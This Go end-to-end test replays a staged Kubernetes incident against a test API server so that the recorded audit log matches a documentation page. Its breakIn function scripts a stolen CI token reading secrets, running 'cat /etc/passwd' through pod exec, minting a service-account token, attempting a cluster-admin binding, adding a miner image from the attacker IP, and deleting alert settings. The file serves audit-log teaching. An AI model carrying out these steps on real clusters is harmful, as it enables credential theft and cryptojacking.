//go:build e2e

package answers

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"auditpatch/e2e/apiserver"
)

// The log that docs/answers.md asks, and the policy that it was recorded with.
const (
	incidentLog    = "testdata/incident.log"
	incidentPolicy = "testdata/incident-policy.yaml"
)

// Whoever takes part in the incident. The token of the service account is one of a file here,
// and so the user has no credential's name in the log.
var (
	alice    = apiserver.User{Name: "alice", Groups: []string{"system:masters", "on-call"}, Token: "alice-token"}
	bob      = apiserver.User{Name: "bob", Groups: []string{"developers"}, Token: "bob-token"}
	deployer = apiserver.User{Name: "system:serviceaccount:ci:deployer", Groups: []string{"system:serviceaccounts", "system:serviceaccounts:ci"}, Token: "deployer-token"}
	stranger = apiserver.User{}
	expired  = apiserver.User{Token: "a token of nobody"}
)

// Where they send from. The API server believes what a proxy says of where a request comes from.
const (
	office  = "198.51.100.20"
	builds  = "10.0.12.7"
	nowhere = "203.0.113.66"
)

// Programs that they use.
const (
	kubectl  = "kubectl/v1.37.2 (linux/amd64) kubernetes/5a1a1e1"
	pipeline = "deploy-pipeline/4.2"
	curl     = "curl/8.5.0"
)

// story sends the requests of an incident: the token of a build pipeline is used from elsewhere.
type story struct {
	*testing.T
	client *apiserver.Client
}

// who sends, and how.
type who struct {
	user          apiserver.User
	from, program string
	header        map[string]string
}

// does sends a request that must have this answer.
func (s story) does(w who, status int, method, target, media, body string) {
	s.Helper()
	header := map[string]string{"User-Agent": w.program, "X-Forwarded-For": w.from, "Accept": "application/json"}
	if media != "" {
		header["Content-Type"] = media
	}
	for name, value := range w.header {
		header[name] = value
	}
	answer, err := s.client.Do(apiserver.Request{As: w.user, Method: method, Target: target, Header: header, Body: []byte(body)})
	if err != nil {
		s.Fatal(err)
	}
	if answer.Status != status {
		s.Fatalf("%s %s as %q: status %d, want %d: %.500s", method, target, w.user.Name, answer.Status, status, answer.Body)
	}
	time.Sleep(150 * time.Millisecond) // so that a timeline has something to show
}

const (
	asJSON    = "application/json"
	merge     = "application/merge-patch+json"
	strategic = "application/strategic-merge-patch+json"
)

// setUp is the day before: what alice makes for the others.
func (s story) setUp() {
	a := who{user: alice, from: office, program: kubectl}
	post := func(target, body string) { s.does(a, http.StatusCreated, http.MethodPost, target, asJSON, body) }
	for _, name := range []string{"prod", "ci"} {
		post("/api/v1/namespaces", fmt.Sprintf(`{"apiVersion":"v1","kind":"Namespace","metadata":{"name":%q}}`, name))
	}
	post("/api/v1/namespaces/prod/secrets", `{"apiVersion":"v1","kind":"Secret","metadata":{"name":"database"},"stringData":{"password":"not in the log"}}`)
	post("/api/v1/namespaces/prod/configmaps", `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"alerts"},"data":{"receiver":"on-call"}}`)
	post("/api/v1/namespaces/ci/serviceaccounts", `{"apiVersion":"v1","kind":"ServiceAccount","metadata":{"name":"deployer"}}`)
	post("/api/v1/namespaces/prod/serviceaccounts", `{"apiVersion":"v1","kind":"ServiceAccount","metadata":{"name":"web"}}`)
	post("/apis/apps/v1/namespaces/prod/deployments", deployment)
	post("/api/v1/namespaces/prod/pods", pod)
	// More than a pipeline needs, as it is so often.
	post("/apis/rbac.authorization.k8s.io/v1/clusterroles", `{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRole","metadata":{"name":"deployer"},"rules":[
		{"apiGroups":["apps"],"resources":["deployments","deployments/scale"],"verbs":["get","list","patch","update"]},
		{"apiGroups":[""],"resources":["secrets","pods","configmaps"],"verbs":["get","list","delete"]},
		{"apiGroups":[""],"resources":["pods/exec","serviceaccounts/token"],"verbs":["create"]}]}`)
	post("/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", binding("deployer", "deployer"))
	post("/apis/rbac.authorization.k8s.io/v1/namespaces/prod/roles", `{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"Role","metadata":{"name":"developer"},"rules":[
		{"apiGroups":["","apps"],"resources":["pods","pods/log","deployments"],"verbs":["get","list"]}]}`)
	post("/apis/rbac.authorization.k8s.io/v1/namespaces/prod/rolebindings", `{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"RoleBinding","metadata":{"name":"developers"},
		"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"Role","name":"developer"},"subjects":[{"apiGroup":"rbac.authorization.k8s.io","kind":"Group","name":"developers"}]}`)
}

func binding(name, role string) string {
	return fmt.Sprintf(`{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":%q},
		"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":%q},"subjects":[{"kind":"ServiceAccount","name":"deployer","namespace":"ci"}]}`, name, role)
}

const deployment = `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"web"},"spec":{"replicas":2,"selector":{"matchLabels":{"app":"web"}},
	"template":{"metadata":{"labels":{"app":"web"}},"spec":{"containers":[{"name":"web","image":"registry.example.com/web:1.4"}]}}}}`

const pod = `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"web-1","labels":{"app":"web"}},"spec":{"serviceAccountName":"web","nodeName":"worker-1","automountServiceAccountToken":false,
	"containers":[{"name":"web","image":"registry.example.com/web:1.4"}]}}`

// worker makes the node that the Pod runs on, which has the bed's stand-in for a kubelet.
func (s story) worker(port int) {
	own := who{user: apiserver.Admin, program: "test"}
	s.does(own, http.StatusCreated, http.MethodPost, "/api/v1/nodes", asJSON, `{"apiVersion":"v1","kind":"Node","metadata":{"name":"worker-1"}}`)
	s.does(own, http.StatusOK, http.MethodPatch, "/api/v1/nodes/worker-1/status", merge,
		fmt.Sprintf(`{"status":{"addresses":[{"type":"InternalIP","address":"127.0.0.1"}],"daemonEndpoints":{"kubeletEndpoint":{"Port":%d}}}}`, port))
}

// usual is a day's work.
func (s story) usual() {
	ci := who{user: deployer, from: builds, program: pipeline}
	s.does(ci, http.StatusOK, http.MethodGet, "/apis/apps/v1/namespaces/prod/deployments/web", "", "")
	s.does(ci, http.StatusOK, http.MethodPatch, "/apis/apps/v1/namespaces/prod/deployments/web", strategic,
		`{"spec":{"template":{"spec":{"containers":[{"name":"web","image":"registry.example.com/web:1.5"}]}}}}`)
	b := who{user: bob, from: office, program: kubectl}
	s.does(b, http.StatusOK, http.MethodGet, "/api/v1/namespaces/prod/pods?limit=500", "", "")
	s.does(b, http.StatusForbidden, http.MethodGet, "/api/v1/namespaces/prod/secrets/database", "", "")
	s.does(b, http.StatusForbidden, http.MethodDelete, "/api/v1/namespaces/prod/pods/web-1", "", "")
	s.does(who{user: alice, from: office, program: kubectl, header: map[string]string{"Impersonate-User": "bob", "Impersonate-Group": "developers"}},
		http.StatusForbidden, http.MethodPatch, "/apis/apps/v1/namespaces/prod/deployments/web/scale", merge, `{"spec":{"replicas":3}}`)
	s.does(who{user: alice, from: office, program: kubectl}, http.StatusOK, http.MethodPatch, "/apis/apps/v1/namespaces/prod/deployments/web/scale", merge, `{"spec":{"replicas":3}}`)
}

// breakIn is what the thief of a token does.
func (s story) breakIn() {
	for range 3 {
		s.does(who{user: stranger, from: nowhere, program: curl}, http.StatusForbidden, http.MethodGet, "/api/v1/secrets", "", "")
		s.does(who{user: expired, from: nowhere, program: curl}, http.StatusUnauthorized, http.MethodGet, "/api/v1/secrets", "", "")
	}
	t := who{user: deployer, from: nowhere, program: curl}
	s.does(t, http.StatusCreated, http.MethodPost, "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", asJSON,
		`{"apiVersion":"authorization.k8s.io/v1","kind":"SelfSubjectRulesReview","spec":{"namespace":"prod"}}`)
	s.does(t, http.StatusOK, http.MethodGet, "/api/v1/secrets?limit=500", "", "")
	s.does(t, http.StatusOK, http.MethodGet, "/api/v1/namespaces/prod/secrets/database", "", "")
	s.does(t, http.StatusForbidden, http.MethodPost, "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", asJSON, binding("update-agent", "cluster-admin"))
	s.does(t, http.StatusForbidden, http.MethodPost, "/api/v1/namespaces/kube-system/pods", asJSON, pod)
	s.does(who{user: deployer, from: nowhere, program: curl, header: map[string]string{"Connection": "Upgrade", "Upgrade": "SPDY/3.1", "X-Stream-Protocol-Version": "v4.channel.k8s.io"}},
		http.StatusSwitchingProtocols, http.MethodPost, "/api/v1/namespaces/prod/pods/web-1/exec?command=cat&command=/etc/passwd&container=web&stdout=true", "", "")
	s.does(t, http.StatusCreated, http.MethodPost, "/api/v1/namespaces/prod/serviceaccounts/web/token", asJSON,
		`{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":{"expirationSeconds":86400}}`)
	s.does(t, http.StatusOK, http.MethodPatch, "/apis/apps/v1/namespaces/prod/deployments/web", strategic,
		`{"spec":{"template":{"spec":{"containers":[{"name":"web","image":"registry.example.com/web:1.5"},{"name":"metrics","image":"203.0.113.66/miner:latest"}]}}}}`)
	s.does(t, http.StatusOK, http.MethodDelete, "/api/v1/namespaces/prod/configmaps/alerts", "", "")
}

// cleanUp is what alice does about it.
func (s story) cleanUp() {
	a := who{user: alice, from: office, program: kubectl}
	s.does(a, http.StatusOK, http.MethodDelete, "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/deployer", "", "")
	s.does(a, http.StatusOK, http.MethodPatch, "/apis/apps/v1/namespaces/prod/deployments/web", strategic,
		`{"spec":{"template":{"spec":{"containers":[{"name":"metrics","$patch":"delete"}]}}}}`)
	s.does(who{user: deployer, from: nowhere, program: curl}, http.StatusForbidden, http.MethodGet, "/api/v1/secrets?limit=500", "", "")
}

// TestIncident records the incident of docs/answers.md once more. What the API server writes
// must be what the page's log has, but for times and names that are new each time.
// UPDATE_ANSWERS=1 makes the new one the page's log.
func TestIncident(t *testing.T) {
	bed := start(t, alice, bob, deployer)
	log := recorded(t, bed, module(incidentPolicy), func(c *apiserver.Client) {
		s := story{T: t, client: c}
		s.worker(bed.Kubelet().Port())
		s.setUp()
		s.usual()
		s.breakIn()
		s.cleanUp()
	})
	log = withoutOwn(log)
	if os.Getenv("UPDATE_ANSWERS") != "" {
		if err := os.WriteFile(module(incidentLog), log, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	page, err := os.ReadFile(module(incidentLog))
	if err != nil {
		t.Fatal(err)
	}
	want, got := plain(t, page), plain(t, log)
	if len(got) < 30 {
		t.Fatalf("only %d events", len(got))
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("the log differs from %s (-page +now); UPDATE_ANSWERS=1 takes the new one:\n%s", incidentLog, diff)
	}
	t.Logf("%d events, as in %s", len(got), incidentLog)
}

// withoutOwn leaves out what the test itself did.
func withoutOwn(log []byte) []byte {
	var out []byte
	for line := range bytes.Lines(log) {
		if !bytes.Contains(line, []byte(`"username":"`+apiserver.Admin.Name+`"`)) {
			out = append(out, line...)
		}
	}
	return out
}

// slow is what kube-apiserver adds to the events of answers that took half a second.
var slow = regexp.MustCompile(`"apiserver\.latency\.k8s\.io/[^"]*":"[^"]*",?`)

// names that are new each time: times, IDs, versions, ports.
var names = regexp.MustCompile(`\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z|[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}|"resourceVersion":"\d+"|127\.0\.0\.1:\d+|v1\.\d+\.\d+`)

// plain are the lines of a log without what is new each time.
func plain(t *testing.T, log []byte) []string {
	t.Helper()
	var out []string
	for line := range bytes.Lines(log) {
		if !json.Valid(line) {
			t.Fatalf("no JSON: %.200s", line)
		}
		text := slow.ReplaceAllString(strings.TrimSpace(string(line)), "")
		out = append(out, names.ReplaceAllString(text, "X"))
	}
	return out
}
